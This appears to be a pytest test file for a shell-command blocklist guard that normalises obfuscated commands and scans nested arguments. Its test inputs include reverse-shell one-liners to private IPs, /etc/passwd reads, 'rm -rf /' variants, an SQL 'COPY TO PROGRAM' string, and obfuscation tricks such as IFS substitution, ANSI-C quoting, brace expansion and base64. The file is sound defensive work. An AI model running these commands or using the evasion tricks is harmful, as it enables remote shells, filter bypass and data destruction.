"""addons/core/shell/guard.py: the normalisation the blocklist matches against, the shell split
used by `shell:` predicates, and the argument walk (the full attack table runs through
the shipped rules in test_blocklist_table.py)."""
from __future__ import annotations

import base64
import re
from pathlib import Path

import pytest

from addons.core.policy.rules import load_policy
from addons.core.shell.guard import MAX_VIEWS, ScanCache, deobfuscate, iter_strings, scan, shell_info, views

BLOCKLIST = load_policy(Path(__file__).resolve().parents[2] / "rules").blocklist


@pytest.mark.parametrize("raw,normal", [
    ("n''c -e /bin/sh h 1", "nc -e /bin/sh h 1"),                 # empty quotes split words
    ('N"c" -e sh', "Nc -e sh"),
    ("b\\ash -i", "bash -i"),                                    # backslash escapes
    ("cat${IFS}/etc/passwd", "cat /etc/passwd"),
    ("cat$IFS$9/etc/passwd", "cat /etc/passwd"),
    ("nc${IFS%??}-e${IFS%??}sh", "nc -e sh"),
    ("$'\\x6e\\x63' -e sh", "nc -e sh"),                         # ANSI-C quoting
    ("$(  )nc -e sh", "nc -e sh"),                               # empty substitution
    ("a=nc; $a -e sh h 1", "a=nc; nc -e sh h 1"),                 # variable indirection
    ("nc \t  -e\n sh", "nc -e sh"),                              # whitespace collapsed
])
def test_deobfuscate(raw, normal):
    assert deobfuscate(raw) == normal


def test_views_decode_percent_unicode_base64():
    assert "bash" in views("%62%61%73%68")
    assert "nc -e sh" in views("\\u006e\\u0063 -e sh")
    blob = base64.b64encode(b"bash -i >& /dev/tcp/1.2.3.4/1 0>&1").decode()
    assert "bash -i >& /dev/tcp/1.2.3.4/1 0>&1" in views("echo " + blob)


def test_case_is_left_to_the_case_insensitive_patterns():
    # views keep case (no lower-cased copies: they doubled the regex work for nothing)
    assert views("NC -E SH") == ["NC -E SH"]
    pats = list(load_policy(Path(__file__).resolve().parents[2] / "rules").blocklist)
    assert all(p.regex.flags & re.IGNORECASE for p in pats)
    assert scan({"c": "NC -E /BIN/SH 10.0.0.1 4444"}, pats) is not None
    assert scan({"c": "Bash -I >& /DEV/TCP/10.0.0.1/4444 0>&1"}, pats) is not None


def test_views_resolve_a_globbed_program_only_in_command_position():
    assert any(v.startswith("/bin/nc -e") for v in views("/bin/n? -e /bin/sh h 1"))
    assert views("ls *.py") == ["ls *.py"]                       # arguments are not rewritten
    assert all("nc" not in v for v in views("cat /etc/*.conf"))


def test_views_are_bounded():
    nested = "echo " + base64.b64encode(("%25" * 50 + "x").encode()).decode() * 40
    assert len(views(nested)) <= MAX_VIEWS
    assert len(views("a" * 10_000_000)[0]) <= 256 * 1024


def test_iter_strings_walks_keys_values_and_nesting():
    got = dict((p, s) for p, s in iter_strings({"a": ["x", {"b": "y"}], "n": 3}))
    assert got == {"$.a(key)": "a", "$.n(key)": "n", "$.a[0]": "x", "$.a[1].b(key)": "b", "$.a[1].b": "y"}


def test_scan_reports_where_never_what():
    hit = scan({"opts": {"env": ["ok", "nc -e /bin/sh 10.0.0.1 4444"]}}, BLOCKLIST)
    assert hit is not None and hit.path == "$.opts.env[1]" and hit.category
    assert "10.0.0.1" not in repr(hit)
    assert scan({"sh -i >& /dev/tcp/1.2.3.4/9 0>&1": 1}, BLOCKLIST) is not None   # keys are scanned too
    assert scan({"cmd": "ls -la", "n": 1, "b": True, "z": None}, BLOCKLIST) is None


@pytest.mark.parametrize("cmd,programs,ops", [
    ("ls -la", ("ls",), False),
    ("FOO=1 ls", ("ls",), False),                               # assignments are not programs
    ("ls | grep x", ("ls", "grep"), True),
    ("ls > out", ("ls",), True),
    ("2>/dev/null ls", ("ls",), True),
    ("echo $(id)", ("echo", "id"), True),                       # substitution runs a program
    ("a\nb", ("a", "b"), True),                                 # a newline is a separator
    ("/usr/bin/git log", ("git",), False),                      # basenames
    ("xargs -0 rm", ("xargs", "rm"), False),                    # wrappers run what follows
    ("sudo rm -rf /tmp/x", ("sudo", "rm"), False),
])
def test_shell_info_programs_and_operators(cmd, programs, ops):
    info = shell_info(cmd)
    assert info.parsed and info.operators is ops
    assert set(programs) <= set(info.programs) and info.programs[0] == programs[0]


def test_shell_info_unbalanced_quotes_is_not_parsed():
    assert shell_info('echo "unbalanced').parsed is False


@pytest.mark.parametrize("raw,expanded", [
    ("{nc,-e,/bin/sh,h,1}", "nc -e /bin/sh h 1"),                # bash brace expansion
    ("rm -rf ${PATH:0:1}", "rm -rf /"),
    ("COPY t TO/**/PROGRAM x", "COPY t TO PROGRAM x"),            # SQL block comments
    ("cat /dev//tcp/h/1 /dev/./udp/h/2", "cat /dev/tcp/h/1 /dev/udp/h/2"),
    ("rm -rf /.", "rm -rf /"),
])
def test_expansions_view(raw, expanded):
    assert expanded in views(raw)


@pytest.mark.parametrize("evil", ["{" + "," * 262_144, "/*" * 131_072, "{a," * 87_000, "| sudo " + "-x " * 87_000])
def test_pathological_input_is_scanned_in_linear_time(evil):
    import time
    t = time.perf_counter()
    scan({"c": evil}, BLOCKLIST)
    assert time.perf_counter() - t < 10                          # was minutes for a backtracking brace regex


def test_scan_cache_gives_the_same_verdicts_and_stays_bounded():
    pats = list(load_policy(Path(__file__).resolve().parents[2] / "rules").blocklist)
    cache = ScanCache(max_entries=8)
    attack = {"command": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}
    legit = {"command": "ls -la"}
    for _ in range(3):      # cached and uncached answers agree, hit path included
        assert scan(attack, pats, cache) == scan(attack, pats) is not None
        assert scan(legit, pats, cache) is None
    for i in range(50):
        scan({"k": f"value {i}"}, pats, cache)
    assert len(cache) == 8
    assert scan(attack, pats, cache) is not None     # evicted entries are recomputed
    long = "x " * 400 + "nc -e /bin/sh 10.0.0.1 4444"           # beyond max_len: never cached
    assert scan({"c": long}, pats, cache) is not None and long not in cache._verdicts
